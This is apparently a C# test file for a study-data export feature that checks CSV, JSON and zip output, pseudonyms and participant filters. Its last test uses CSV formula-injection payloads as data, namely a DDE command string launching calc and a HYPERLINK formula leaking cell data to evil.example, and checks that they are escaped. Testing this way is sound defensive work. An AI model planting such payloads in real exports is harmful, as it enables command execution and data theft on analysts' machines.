using Microsoft.EntityFrameworkCore;
using System.IO.Compression;
using System.Text;
using System.Text.Json;
using CsvHelper;
using PersonaExplorer.Data;
using PersonaExplorer.Features.Study;
using PersonaExplorer.Features.Study.Export;

namespace PersonaExplorer.Tests.Features.Study;

public class StudyExportTests
{
    private static List<Dictionary<string, string>> ReadCsv(byte[] bytes)
    {
        using var csv = CsvReader.Create(new MemoryStream(bytes), new CsvReaderOptions());
        var rows = new List<Dictionary<string, string>>();
        while (csv.Read()) rows.Add(csv.Headers.Select((h, i) => (h, v: csv.GetString(i))).ToDictionary(x => x.h, x => x.v));
        return rows;
    }

    [Fact]
    public async Task Event_csv_round_trips_with_pseudonyms_only()
    {
        await using var t = new StudyTestDb();
        var study = await t.OpenStudyAsync();
        var people = await t.Store.GenerateAsync(study.Id, 2);
        foreach (var p in people) await t.CompleteAsync(p.Code);
        // a payload with commas, quotes, a newline and a formula-looking start
        var session = (await t.Flow.FindAsync(people[0].Code))!.Participant.Trials[0].SessionId;
        await t.Events.RecordAsync("custom.tricky", session, null, new { text = "a,\"b\"\nc", f = "=1+1" });

        var lookups = (await t.Exporter.LoadAsync(study.Id, new ExportScope(), default))!;
        using var ms = new MemoryStream();
        var n = await StudyExportWriter.WriteEventsCsvAsync(ms, t.Exporter.EventsAsync(lookups, default), default);
        var rows = ReadCsv(ms.ToArray());
        Assert.Equal(n, rows.Count);
        Assert.Equal(StudyExportWriter.EventColumns, rows[0].Keys);

        await using var db = await t.Factory.CreateDbContextAsync();
        var expected = (from x in db.StudyEventTags where x.StudyId == study.Id join e in db.Events on x.EventId equals e.Id orderby e.Id select e).ToList();
        Assert.Equal(expected.Select(e => e.Id.ToString()), rows.Select(r => r["event_id"]));
        Assert.Equal(expected.Select(e => e.Type), rows.Select(r => r["event_type"]));
        Assert.Equal(expected.Select(e => e.PayloadJson), rows.Select(r => r["payload_json"]));
        Assert.Equal(expected.Select(e => e.TimestampMs.ToString()), rows.Select(r => r["timestamp_ms"]));
        Assert.Equal(["P001", "P002"], rows.Select(r => r["participant"]).Distinct().Order());
        var text = Encoding.UTF8.GetString(ms.ToArray());
        foreach (var p in people) Assert.DoesNotContain(p.Code, text);
        Assert.Contains(rows, r => r["event_type"] == "message.send" && r["condition"] == "Chat only" && r["trial_index"] is "0" or "1");
    }

    [Fact]
    public async Task Questionnaire_csv_has_one_row_per_item_plus_scores()
    {
        await using var t = new StudyTestDb();
        var study = await t.OpenStudyAsync();
        var p = (await t.Store.GenerateAsync(study.Id, 1))[0];
        await t.CompleteAsync(p.Code);
        var lookups = (await t.Exporter.LoadAsync(study.Id, new ExportScope(), default))!;
        using var ms = new MemoryStream();
        await StudyExportWriter.WriteAnswersCsvAsync(ms, t.Exporter.AnswersAsync(lookups, default), default);
        var rows = ReadCsv(ms.ToArray());
        Assert.Equal(34, rows.Count(r => r["derived"] == "0"));
        var scores = rows.Where(r => r["derived"] == "1").ToList();
        Assert.Equal(4, scores.Count); // TLX + SUS per trial
        Assert.All(scores.Where(r => r["instrument"] == Instruments.Tlx), r => Assert.Equal("50", r["value"]));
        Assert.All(scores.Where(r => r["instrument"] == Instruments.Sus), r => Assert.Equal("50", r["value"]));
        Assert.Single(rows, r => r["instrument"] == Instruments.Text && r["text"] == "ok" && r["trial_index"] == "");
    }

    [Fact]
    public async Task Simulated_and_pilot_participants_are_excluded_unless_asked_for()
    {
        await using var t = new StudyTestDb();
        var study = await t.OpenStudyAsync();
        await t.CompleteAsync((await t.Store.GenerateAsync(study.Id, 1))[0].Code);
        await t.CompleteAsync((await t.Store.GenerateAsync(study.Id, 1, ParticipantKind.Simulated))[0].Code);
        await t.CompleteAsync((await t.Store.GenerateAsync(study.Id, 1, ParticipantKind.Pilot))[0].Code);

        async Task<HashSet<string>> Who(ExportScope scope)
        {
            var l = (await t.Exporter.LoadAsync(study.Id, scope, default))!;
            var set = new HashSet<string>();
            await foreach (var e in t.Exporter.EventsAsync(l, default)) set.Add(e.Participant);
            await foreach (var a in t.Exporter.AnswersAsync(l, default)) set.Add(a.Participant);
            return set;
        }
        Assert.Equal(["P001"], await Who(new ExportScope()));
        Assert.Equal(["P001", "S001"], (await Who(new ExportScope(IncludeSimulated: true))).Order());
        Assert.Equal(["P001", "S001", "X001"], (await Who(new ExportScope(true, true))).Order());
    }

    [Fact]
    public async Task Json_and_zip_exports_are_complete_and_parse()
    {
        await using var t = new StudyTestDb();
        var study = await t.OpenStudyAsync();
        await t.CompleteAsync((await t.Store.GenerateAsync(study.Id, 1))[0].Code);
        var l = (await t.Exporter.LoadAsync(study.Id, new ExportScope(), default))!;

        using var json = new MemoryStream();
        var n = await StudyExportWriter.WriteJsonAsync(json, StudyExporter.Design(l.Study), StudyExporter.Participants(l), t.Exporter.AnswersAsync(l, default), t.Exporter.EventsAsync(l, default), default);
        using var doc = JsonDocument.Parse(json.ToArray());
        Assert.Equal(n, doc.RootElement.GetProperty("events").GetArrayLength());
        Assert.Equal(38, doc.RootElement.GetProperty("answers").GetArrayLength());
        Assert.Equal("Test study", doc.RootElement.GetProperty("study").GetProperty("name").GetString());
        Assert.Equal(JsonValueKind.Object, doc.RootElement.GetProperty("events")[0].GetProperty("payload").ValueKind);

        using var zipBytes = new MemoryStream();
        await StudyExportEndpoints.WriteZipAsync(zipBytes, t.Exporter, l, false, false, default);
        using var zip = new ZipArchive(new MemoryStream(zipBytes.ToArray()));
        Assert.Equal(new[] { "README.md", "events.csv", "manifest.json", "participants.csv", "questionnaires.csv", "study.json" }.Order(StringComparer.Ordinal),
            zip.Entries.Select(e => e.FullName).Order(StringComparer.Ordinal));
        // the last entry is the manifest, and its row counts match the files
        Assert.Equal(StudyExportEndpoints.ManifestName, zip.Entries[^1].FullName);
        using var manifest = JsonDocument.Parse(zip.GetEntry(StudyExportEndpoints.ManifestName)!.Open());
        Assert.True(manifest.RootElement.GetProperty("complete").GetBoolean());
        foreach (var file in new[] { "events.csv", "participants.csv", "questionnaires.csv" })
        {
            using var entry = new MemoryStream();
            await zip.GetEntry(file)!.Open().CopyToAsync(entry);
            Assert.Equal(ReadCsv(entry.ToArray()).Count, manifest.RootElement.GetProperty("rows").GetProperty(file).GetInt64());
        }
        var counts = doc.RootElement.GetProperty("row_counts");
        Assert.Equal((1, 38, n), (counts.GetProperty("participants").GetInt32(), counts.GetProperty("answers").GetInt32(), counts.GetProperty("events").GetInt64()));
        using var readme = new StreamReader(zip.GetEntry("README.md")!.Open());
        var codebook = await readme.ReadToEndAsync();
        foreach (var column in StudyExportWriter.EventColumns.Concat(StudyExportWriter.AnswerColumns).Concat(StudyExportWriter.ParticipantColumns))
            Assert.Contains(column, codebook);
    }

    [Fact]
    public async Task Formula_looking_answers_and_names_are_escaped_in_every_csv()
    {
        await using var t = new StudyTestDb();
        var study = await t.OpenStudyAsync();
        await using (var db = await t.Factory.CreateDbContextAsync())
            await db.StudyTasks.ExecuteUpdateAsync(u => u.SetProperty(x => x.Title, "=cmd|' /C calc'!A0"));
        string[] formulas = ["=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")", "+1+2", "-2+3", "@SUM(A1:A9)"];
        var people = await t.Store.GenerateAsync(study.Id, formulas.Length);
        for (var i = 0; i < people.Count; i++)
        {
            var code = people[i].Code;
            Assert.Null(await t.Flow.ConsentAsync(code));
            while ((await t.Flow.FindAsync(code))!.Phase is var phase && phase != ParticipantPhase.Done)
            {
                var view = (await t.Flow.FindAsync(code))!;
                if (phase == ParticipantPhase.Instructions) await t.Flow.StartTaskAsync(code);
                else if (phase == ParticipantPhase.Workspace) await t.Flow.FinishTaskAsync(code);
                else
                {
                    // the free-text answer of the end questionnaire is what the participant typed
                    var answers = StudyTestDb.Answers(view);
                    foreach (var item in view.Questionnaire.Where(q => q.Type == ItemType.FreeText)) answers[item.Id] = new QuestionnaireResponse(null, formulas[i]);
                    Assert.Null(await t.Flow.SubmitQuestionnaireAsync(code, answers));
                }
            }
        }
        var l = (await t.Exporter.LoadAsync(study.Id, new ExportScope(), default))!;
        using var answersCsv = new MemoryStream();
        await StudyExportWriter.WriteAnswersCsvAsync(answersCsv, t.Exporter.AnswersAsync(l, default), default);
        var texts = ReadCsv(answersCsv.ToArray()).Where(r => r["instrument"] == Instruments.Text).Select(r => r["text"]).ToList();

        Assert.Equal(formulas.Length, texts.Count);
        Assert.All(texts, text => Assert.StartsWith("'", text)); // a spreadsheet shows it as text
        Assert.Equal(formulas.Select(f => "'" + f.Trim()).Order(StringComparer.Ordinal), texts.Order(StringComparer.Ordinal));
        Assert.All(ReadCsv(answersCsv.ToArray()).Where(r => r["task"] != ""), r => Assert.Equal("'=cmd|' /C calc'!A0", r["task"]));
        Assert.Contains(ReadCsv(answersCsv.ToArray()), r => r["value"] == "50"); // numbers stay numbers

        using var eventsCsv = new MemoryStream();
        await StudyExportWriter.WriteEventsCsvAsync(eventsCsv, t.Exporter.EventsAsync(l, default), default);
        Assert.All(ReadCsv(eventsCsv.ToArray()).Where(r => r["task"] != ""), r => Assert.Equal("'=cmd|' /C calc'!A0", r["task"]));
        // answers are trimmed when stored, so a leading tab or CR can only come from elsewhere: the writer escapes them too
        using var hidden = new MemoryStream();
        await StudyExportWriter.WriteAnswersCsvAsync(hidden, new[] { "\t=1+1", "\r=1+1" }.Select(x =>
            new AnswerExportRow("P001", "Real", null, null, null, Instruments.Text, "c", 1, null, x, 0, false)).ToAsyncEnumerable(), default);
        Assert.Equal(["'\t=1+1", "'\r=1+1"], ReadCsv(hidden.ToArray()).Select(r => r["text"]));
    }
}
